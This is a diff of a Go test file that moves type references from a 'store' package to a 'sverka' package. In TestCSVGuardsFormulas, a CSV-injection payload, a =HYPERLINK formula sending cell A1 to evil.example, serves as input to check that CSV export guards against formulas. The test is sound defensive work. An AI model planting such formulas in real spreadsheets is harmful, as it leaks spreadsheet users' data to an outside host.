@@ -5,10 +5,10 @@ import (
 	"context"
 	"encoding/csv"
 	"strings"
+	"sverka"
 	"testing"
 
 	"sverka/internal/storetest"
-	"sverka/store"
 )
 
 func TestGuardCells(t *testing.T) {
@@ -44,17 +44,17 @@ func TestGuardCells(t *testing.T) {
 func TestCSVGuardsFormulas(t *testing.T) {
 	ctx := context.Background()
 	db := storetest.Open(t)
-	u, err := db.CreateUser(ctx, "mallory", store.RoleEditor, "")
+	u, err := db.CreateUser(ctx, "mallory", sverka.RoleEditor, "")
 	if err != nil {
 		t.Fatal(err)
 	}
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
-	a := &store.Annotation{DocumentID: "117313", Motivation: store.MotivationCorrection, CreatorID: u.ID, Body: evil,
-		Target: store.TextTarget{Lang: "ru", Start: 0, End: 5, Exact: "ПЕНИН"}}
+	a := &sverka.Annotation{DocumentID: "117313", Motivation: sverka.MotivationCorrection, CreatorID: u.ID, Body: evil,
+		Target: sverka.TextTarget{Lang: "ru", Start: 0, End: 5, Exact: "ПЕНИН"}}
 	if err := db.CreateAnnotation(ctx, a); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := db.ReviewCorrection(ctx, a.ID, store.StatusAccepted, a.Version, u.ID); err != nil {
+	if _, err := db.ReviewCorrection(ctx, a.ID, sverka.StatusAccepted, a.Version, u.ID); err != nil {
 		t.Fatal(err)
 	}
 	b := export(t, db, "csv", Options{}, "117313")
